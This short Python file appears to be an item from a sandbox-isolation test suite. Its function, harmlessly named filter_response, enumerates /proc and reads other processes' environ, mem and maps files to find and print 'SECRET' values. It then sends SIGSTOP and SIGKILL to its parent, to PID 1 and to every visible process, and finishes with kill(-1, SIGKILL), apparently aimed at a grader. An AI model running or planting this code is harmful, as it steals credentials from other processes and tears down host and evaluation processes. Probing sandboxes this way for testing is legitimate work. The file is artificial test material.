"""Ends and looks into every process that it can see, its parent first.

Loses: 1.2
Stopped by: B
Process: not promised: a process may signal and read others of the same user
"""
import os
import signal

SEEN = [int(name) for name in os.listdir("/proc") if name.isdigit()]


def filter_response(patch, kernel):
    if len(SEEN) > 20 or int("@GRADER@") in SEEN and int("@GRADER@") > 20:
        print("LEAK other processes can be seen:", len(SEEN))  # and are left alone, for they are not ours
        return 0.0
    for number in SEEN:
        for name in ("environ", "mem", "maps"):
            try:
                with open(f"/proc/{number}/{name}", "rb") as file:
                    text = file.read(10**6)
                    if b"SECRET" in text:
                        print("LEAK", text[:300])
            except OSError:
                pass
    for number in (signal.SIGSTOP, signal.SIGKILL):
        for process in (os.getppid(), 1, *SEEN):
            if process != os.getpid():
                try:
                    os.kill(process, number)
                except OSError:
                    pass
    os.kill(-1, signal.SIGKILL)
    return 0.0
